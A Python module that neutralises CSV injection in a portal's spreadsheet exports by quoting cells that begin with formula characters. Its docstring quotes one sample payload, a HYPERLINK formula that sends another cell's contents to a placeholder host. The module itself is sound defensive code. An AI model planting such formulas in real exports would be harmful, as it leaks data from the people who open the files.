"""CSV files the portal hands out, safe to open in a spreadsheet program.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel, LibreOffice and Google Sheets as a formula (CSV
injection: ``=HYPERLINK("http://x/"&A1,"Click")`` in a delegate's name).
OWASP's rule: prefix such a cell with a single quote, so the program shows
the text as typed. Every CSV export goes through :func:`csv_bytes`, which
applies the rule to every cell, or :func:`safe_cell` for one value.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """The cell's text, with a leading ``'`` if a spreadsheet would read it
    as a formula. Numbers are written as they are (a negative number is data,
    not a formula); ``None`` is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 with a byte order mark (so spreadsheet programs read the
    Cyrillic), every cell neutralised by :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")
